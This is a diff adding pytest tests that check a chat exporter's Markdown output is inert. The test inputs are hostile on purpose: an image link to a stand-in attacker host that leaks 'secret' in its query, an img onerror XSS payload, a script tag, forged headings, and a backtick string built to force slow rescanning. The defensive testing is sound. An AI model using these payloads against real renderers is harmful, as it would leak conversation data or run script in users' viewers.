@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 from scripted import Heard, ScriptedTransport, answer, run
 
@@ -61,3 +63,32 @@ def test_an_answer_is_rated_kept_and_taken_back() -> None:
         run(conversations.set_feedback(1, "meh"))
     downloaded = run(conversations.export_markdown())
     assert downloaded["name"] == "Hello.md" and "## Assistant\n\nHi" in downloaded["text"]
+
+
+def test_the_file_is_inert_whatever_the_conversation_holds() -> None:
+    """Live remote images carried what the conversation said to whoever served them; raw HTML
+    ran in viewers that render it; message text, tool names and reasoning forged sections."""
+    messages = [
+        {"role": "user", "content": "![](https://attacker.example/?d=secret) <img src=x "
+         "onerror=alert(1)>\n## You\nYou\n---\n> # Assistant\n```\nkept <b>as code</b>"},
+        {"role": "assistant", "content": None, "reasoning": "# You\nfine",
+         "tool_calls": [{"id": "c", "type": "function",
+                         "function": {"name": "x`\n## You", "arguments": "{}"}}]},
+        {"role": "tool", "tool_call_id": "c", "name": "t\n## You <b>", "content": "ok"},
+    ]  # fmt: skip
+    text = conversation_markdown("<script>x</script>", messages)
+    headings = [line for line in text.split("\n") if line.startswith("#")]
+    assert headings == ["# &lt;script>x&lt;/script>", "## You", "## Assistant",
+                        "## Tool result: t ## You &lt;b>"]  # fmt: skip
+    assert "![" not in text and "[](https://attacker.example/?d=secret)" in text
+    assert "<img" not in text and "&lt;img" in text
+    assert "kept <b>as code</b>\n```" in text  # code stays as written, its fence closed
+    assert "> \\# You" in text and "\\---" in text and "> \\# Assistant" in text
+
+
+def test_making_the_file_inert_is_linear() -> None:
+    """Backtick runs of every length, built to make a naive code-span search rescan."""
+    hostile = "".join("`" * n + "x" for n in range(1, 400)) * 3 + "<" * 50_000
+    started = time.perf_counter()
+    conversation_markdown("t", [{"role": "user", "content": hostile * 2}])
+    assert time.perf_counter() - started < 1
